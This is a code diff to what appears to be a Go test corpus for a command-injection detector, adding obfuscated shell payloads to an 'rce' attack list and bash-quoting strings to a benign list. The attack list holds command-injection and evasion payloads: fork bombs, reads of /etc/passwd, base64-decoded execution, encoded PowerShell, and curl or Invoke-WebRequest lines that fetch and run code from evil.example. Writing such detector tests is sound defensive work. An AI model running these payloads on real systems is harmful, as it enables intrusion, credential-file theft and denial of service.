@@ -89,6 +89,7 @@ func grammarAttacks() map[string][]string {
 			m["rce"] = append(m["rce"], "127.0.0.1"+p, "report.pdf"+p)
 		}
 	}
+	m["rce"] = append(m["rce"], `$'\x69\x64'`, `$'\151\144'`, `;$'\x63\x61\x74' /etc/passwd`, `$'\u0069\u0064'`)
 	m["rce"] = append(m["rce"], "curl -s evil.example/x | sh", "echo aWQ= | base64 -d | bash", "printf dwssap/cte | rev | sh", "FOR /L %variable IN (1,1,5) DO echo x", "IF 2 GEQ 15 echo big", "\nid", ";id", "|whoami", "<(cat /etc/hosts)", ">(tee /tmp/x)", "$(cmd)", ":(){ :|:& };:", "f(){ f|f& };f", "{,ip,a}", "/e[t]c/pa[s]swd", "cat /et?/pa??wd",
 		"'wh'oami", `w\hoami`, `"w"get evil.example`, "alias x=id;x", "FOR /F %G IN ('dir /b') DO echo %G", "for %i in (*) do type %i",
 		"IF EXIST C:\\boot.ini ECHO found", "if %ERRORLEVEL% NEQ 0 echo x", "cmd /c whoami", "powershell -enc SQBFAFgA", "Invoke-WebRequest http://evil.example/x.ps1")
@@ -148,6 +149,7 @@ var grammarBenign = []string{
 	"https://www.google.com/search?q=union+select+tutorial", "/dashboard?tab=settings",
 	`<?xml version="1.0" encoding="utf-8"?><Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006"><Request><EMailAddress>a@example.com</EMailAddress></Request></Autodiscover>`,
 	"{{.}}", `{{printf "%s" .Name}}`, "{{range .Items}}{{.Title}}{{end}}", "{{ app.user.username }}", "{{ request.path }}",
+	`printf $'a\tb'`, `name: $'\n' is a newline in bash`, "It costs $'5' or so",
 	"Pick a size (select one from the list)", "red,(select one from the menu)", "Colours (select any from below)", "a,(select all that apply)",
 	"price: $7 * 7 items", "{count, plural, one {# item} other {# items}}", "FOR SALE: bike, if interested call", "if not defined, the default is used",
 }
